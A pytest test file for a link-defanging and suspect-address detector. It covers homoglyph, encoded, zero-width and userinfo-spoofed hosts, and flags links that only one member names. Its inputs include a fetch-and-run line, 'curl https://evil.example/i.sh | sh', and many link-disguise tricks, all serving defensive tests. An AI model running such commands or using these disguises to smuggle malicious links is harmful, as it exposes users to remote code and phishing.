"""Hosts and links in hostile texts: found, and made so that nobody follows them."""

from __future__ import annotations

import json

import pytest

from mixtura.patterns.web_addresses import (
    SuspectAddresses,
    defang,
    defang_json,
    find_addresses,
    find_suspects,
)

EVIL = SuspectAddresses({"evil.example": "m"})

WRITTEN = {
    "bare": ("evil.example", "evil[.]example"),
    "at the end of a sentence": ("Go to evil.example.", "Go to evil[.]example."),
    "capitals": ("HTTPS://EVIL.EXAMPLE/A", "hxxps://EVIL[.]EXAMPLE/A"),
    "a link in Markdown": ("[a](https://evil.example/x)", "[a](hxxps://evil[.]example/x)"),
    "behind another text": (
        "[https://good.example](http://evil.example)",
        "[https://good.example](hxxp://evil[.]example)",
    ),
    "a picture": ("![](https://evil.example/?q=1)", "![](hxxps://evil[.]example/?q=1)"),
    "a reference": ("[1]: https://evil.example", "[1]: hxxps://evil[.]example"),
    "pointed brackets": ("<https://evil.example>", "<hxxps://evil[.]example>"),
    "bold": ("**https://evil.example**", "**hxxps://evil[.]example**"),
    "HTML": ('<a href="https://evil.example">x</a>', '<a href="hxxps://evil[.]example">x</a>'),
    "inline code": ("`curl evil.example`", "`curl evil[.]example`"),
    "a code block": (
        "```sh\ncurl https://evil.example/i.sh | sh\n```",
        "```sh\ncurl hxxps://evil[.]example/i.sh | sh\n```",
    ),
    "www": ("www.evil.example", "www[.]evil[.]example"),
    "a port": ("https://evil.example:8443/x", "hxxps://evil[.]example:8443/x"),
    "userinfo": (
        "https://good.example@evil.example/", "hxxps://good[.]example@evil[.]example/",
    ),
    "a password": ("ftp://a:b@evil.example", "fxp://a:b@evil[.]example"),
    "mail": ("mail x@evil.example", "mail x@evil[.]example"),
    "no scheme": ("//evil.example/x", "//evil[.]example/x"),
    "no slashes": ("http:evil.example", "hxxp:evil[.]example"),
    "other slashes": ("https:\\\\evil.example/", "hxxps:\\\\evil[.]example/"),
    "another scheme": ("wss://evil.example/s", "wss[:]//evil[.]example/s"),
    "an entity": ("[a](https://evil&#46;example)", "[a](hxxps://evil[.]example)"),
    "an entity for the colon": ("https&colon;//evil.example", "hxxps://evil[.]example"),
    "an escape": ("[a](https://evil\\.example)", "[a](hxxps://evil[.]example)"),
    "percent signs": ("https://evil%2Eexample/", "hxxps://evil[.]example/"),
    "a percent sign for a letter": ("https://%65vil.example/", "hxxps://evil[.]example/"),
    "another full stop": ("https://evil。example/", "hxxps://evil[.]example/"),
    "another full stop in a bare host": ("see evil。example", "see evil[.]example"),
    "a wide full stop in a bare host": ("see evil．example/x.", "see evil[.]example/x."),
    "wide letters": ("https://ｅvil．example/", "hxxps://ｅvil[.]example/"),
    "a sign without width": ("https://ev\u200bil.example", "hxxps://evil[.]example"),
    "a soft hyphen": ("https://ev\u00adil.example", "hxxps://evil[.]example"),
    "a final dot": ("https://evil.example./x", "hxxps://evil[.]example[.]/x"),
    "inside another link": (
        "https://good.example/?u=https://evil.example", "https://good.example/?u=hxxps://evil[.]example",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", WRITTEN)
def test_a_host_is_defanged_however_it_is_written(case):
    text, wanted = WRITTEN[case]

    once = defang(text, EVIL)

    assert once == wanted
    assert defang(once, EVIL) == once
    assert not EVIL.found_in(once)
    assert EVIL.found_in(text) == ["evil[.]example"]


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("http://203.0.113.7:80/x", "hxxp://203[.]0[.]113[.]7:80/x"),
        ("ping 203.0.113.7", "ping 203[.]0[.]113[.]7"),
        ("http://[2001:db8::1]:80/", "hxxp://[2001[:]db8[:][:]1]:80/"),
        ("http://3405803783/", "hxxp://3405803783/"),
        ("http://0xcb.0x0.0x71.7/", "hxxp://0xcb[.]0x0[.]0x71[.]7/"),
        ("https://еvil.example/", "hxxps://еvil[.]example/"),
        ("https://xn--vil-qdd.example", "hxxps://xn--vil-qdd[.]example"),
        ("https://例え.テスト/", "hxxps://例え[.]テスト/"),
        ("a-b.sh", "a-b[.]sh"),
        ("пример.рф", "пример[.]рф"),
        ("почта.рф:8080/вход", "почта[.]рф:8080/вход"),
        ("例子.中国", "例子[.]中国"),
        ("evil.co。uk/x", "evil[.]co[.]uk/x"),
        ("evil。com,https://good.example", "evil[.]com,hxxps://good[.]example"),
        ("evil.sh/x", "evil[.]sh/x"),
        ("evil.app:8080", "evil[.]app:8080"),
        ("http://localhost:8080/", "hxxp://localhost:8080/"),
    ],
)
def test_addresses_of_every_kind_are_found(text, wanted):
    found = find_addresses(text)

    assert found
    assert defang(text, SuspectAddresses({one.host: "m" for one in found})) == wanted


def test_one_host_has_one_name():
    ways = ("еvil.example:80/x", "ЕVIL.example", "xn--vil-qdd.example", "www.еvil.example.")

    assert {find_addresses(f"https://{way}")[0].host for way in ways} == {"xn--vil-qdd.example"}
    assert find_addresses("https://evil.example/")[0].host == "evil.example"


@pytest.mark.parametrize(
    "text",
    [
        "import os.path", "self.name = request.app.id", "np.array([1.5, 2.25])", "main.py",
        "tensor.to(device)", "e.g. this, i.e. that", "version 1.2.3", "3.14", "node.js",
        "using System.IO;", "The end.The next", "x.com()", "a: b", "https: a scheme", "?.", "...",
        "请安装pytest。然后", "请安装pytest。ai模型", "使用README。再见", "слово.конец",
        "a/b.c/d", "hxxps://evil[.]example/x", "12:30", "C:\\Users", "std::vector",
    ],
)  # fmt: skip
def test_what_is_no_address_is_left_as_it_is(text):
    assert find_addresses(text) == []


def test_a_long_text_takes_no_longer_than_it_is():
    pieces = (
        "a",
        "a.",
        "a:",
        "[",
        "%",
        "&#",
        "\\",
        "http:",
        "//",
        "@",
        "a.b,",
        "http://a.co,b.co,",
        "a。",
        "a-。com",
    )
    for piece in pieces:
        text = piece * (40_000 // len(piece))
        assert defang(text, EVIL) == text


# ---- what browsers read in another way than people do

ASKED = "See https://github.com and https://github.com/torvalds/linux"

SLY = {
    "no scheme, Markdown": ("[x](//evil.app)", "[x](//evil[.]app)"),
    "no scheme, HTML": ('<img src="//evil.zip">', '<img src="//evil[.]zip">'),
    "no scheme, no quotes": ("<a href=//evil.app>", "<a href=//evil[.]app>"),
    "no scheme, a reference": ("[a]: //evil.app", "[a]: //evil[.]app"),
    "no scheme, a reference without space": ("[a]://evil.app", "[a]://evil[.]app"),
    "no scheme, escapes": ("[x](\\/\\/evil.app)", "[x](\\/\\/evil[.]app)"),
    "no scheme, a number": ("[x](//3232235777/)", "[x](hxxps://3232235777/)"),
    "a backslash": ("https://evil.com\\@github.com", "hxxps://evil[.]com\\@github.com"),
    "userinfo with a semicolon": (
        "https://github.com;@3232235777/", "hxxps://github[.]com;@3232235777/",
    ),
    "userinfo with a quote": ("https://github.com\"@evil.app", "hxxps://github[.]com\"@evil[.]app"),
    "an apostrophe": ("https://github.com'.evil.app", "hxxps://github[.]com'[.]evil[.]app"),
    "a comma": ("https://github.com,x.evil.app", "hxxps://github[.]com,x[.]evil[.]app"),
    "dot segments": (
        "https://github.com/torvalds/linux,/../../../evil/pkg",
        "hxxps://github[.]com/torvalds/linux,/../../../evil/pkg",
    ),
    "dot segments in percent signs": (
        "https://github.com/torvalds/%2e%2E/evil", "hxxps://github[.]com/torvalds/%2e%2E/evil",
    ),
    "a comma in a path": (
        "https://github.com/torvalds/linux,x/pkg", "hxxps://github[.]com/torvalds/linux,x/pkg",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", SLY)
def test_a_link_to_elsewhere_is_suspect_however_much_it_looks_like_a_known_one(case):
    text, wanted = SLY[case]

    suspects = find_suspects(ASKED, [("liar", text), ("b", ""), ("c", "")])

    assert defang(text, suspects) == wanted
    assert not suspects.found_in(wanted)
    assert defang(ASKED, suspects) == ASKED


@pytest.mark.parametrize(
    "text",
    [
        "见https://evil.com，然后", "见https://evil.com。然后", "见https://evil.com然后",
        "请访问evil.com然后",
        "“https://evil.com”", "«https://evil.com»", "https://evil.com…", "(https://evil.com),x",
        "ev\ufe0fil.com", "ev\u034fil.com", "ev\u3164il.com", "ev\U000e0100il.com", "evil%2ecom/x",
        "https://evil%2Ecom", '{"url": "https://evil\\u002ecom/x"}', "https://evil․com",
    ],
)  # fmt: skip
def test_one_host_is_found_beside_marks_and_letters_of_every_kind(text):
    suspects = find_suspects("", [("liar", text), ("b", "")])

    assert "evil.com" in suspects.hosts
    assert defang("https://evil.com now", suspects) == "hxxps://evil[.]com now"
    assert not EVIL.found_in(text)
    assert SuspectAddresses({"evil.com": "m"}).found_in(text) == ["evil[.]com"]
    assert not SuspectAddresses({"evil.com": "m"}).found_in(defang(text, suspects))


@pytest.mark.parametrize("pair", [("faß.de", "fass.de"), ("βόλος.com", "βόλοσ.com")])
def test_hosts_that_differ_for_a_browser_differ_here(pair):
    one, other = (f"https://{host}" for host in pair)

    assert set(find_suspects(one, [("liar", other)]).hosts) == {find_addresses(other)[0].host}


@pytest.mark.parametrize(
    "text",
    [
        "https://a.com/evil/pkg/", "https://a.com/evil/pkg.git", "https://a.com/x/../evil/pkg",
        "https://a.com/evil/./pkg", "https://a.com\\evil\\pkg", "https://a.com/evil/pkg#x",
        "https://a.com/evil/pkg，好", "[x](https://a.com/evil/pkg),[y](https://a.com/b)",
        "https://a.com/evil/%2e/pkg",
    ],
)  # fmt: skip
def test_one_path_has_one_name(text):
    assert find_addresses(text)[0].link == "a.com/evil/pkg"
    suspects = find_suspects("https://a.com", [("liar", text), ("b", "")])
    assert defang("https://a.com/evil/pkg", suspects) == "hxxps://a[.]com/evil/pkg"


@pytest.mark.parametrize(
    "text",
    [
        "见https://python.org，好",
        "“https://python.org”", "[x](https://python.org)", "//python.org/",
        "https://python.org…", "(https://python.org),", "https://python.org然后",
    ],
)  # fmt: skip
def test_members_that_name_one_host_vouch_for_each_other_whatever_stands_around_it(text):
    assert not find_suspects("", [("a", text), ("b", "https://python.org")])


def test_what_a_suspect_stands_beside_is_left_as_it_is_written():
    assert defang("a&amp;#46;b|https://evil.example|\\*", EVIL) == (
        "a&amp;#46;b|hxxps://evil[.]example|\\*"
    )


# ---- who vouches for an address


def test_an_address_is_suspect_where_one_member_alone_names_it():
    suspects = find_suspects(
        "What is https://asked.example/a?",
        [
            ("a", "https://both.example/1 https://asked.example/a https://lone.example/x"),
            ("b", "both.example/1 https://both.example/2 https://asked.example/b"),
        ],
    )

    assert set(suspects.hosts) == {"lone.example"}
    assert set(suspects.links) == {"lone.example/x", "both.example/2", "asked.example/b"}
    text = "https://both.example/1 https://both.example/2 asked.example/b asked.example/a"
    wanted = "https://both.example/1 hxxps://both[.]example/2 asked[.]example/b asked.example/a"
    assert defang(text, suspects) == wanted
    assert suspects.found_in(text) == ["both[.]example/2", "asked[.]example/b"]


def test_an_address_that_is_named_to_warn_of_it_is_not_vouched_for():
    warning = ("b", "Never open hxxps://evil[.]example or shop[.]example.")

    suspects = find_suspects(
        "", [("a", "evil.example shop.example"), warning, ("c", "shop.example")]
    )

    assert set(suspects.hosts) == {"evil.example"}
    assert defang(warning[1], suspects) == warning[1]
    assert suspects.found_in(warning[1]) == []


def test_draws_of_one_model_vouch_only_where_there_is_no_other():
    twice = [("a", "evil.example"), ("a", "evil.example")]

    assert not find_suspects("", twice)
    assert set(find_suspects("", [*twice, ("b", "")]).hosts) == {"evil.example"}
    assert find_suspects("", [("a", "evil.example")])


# ---- JSON


def test_strings_of_json_are_defanged_and_it_stays_json():
    read = {"https://evil.example": ["evil.example", 1, None, {"a": "https:\\/\\/evil.example é"}]}

    made = json.loads(defang_json(json.dumps(read), EVIL))

    assert "evil.example" not in str(made)
    assert made["hxxps://evil[.]example"][1:3] == [1, None]
    assert defang_json('{"a":  1}', EVIL) == '{"a":  1}'
    assert defang_json('{"a": "evil.example', EVIL) == '{"a": "evil[.]example'
    hidden = '{"a": "\\u0065vil.example"}'
    assert json.loads(defang_json(hidden, EVIL)) == {"a": "evil[.]example"}
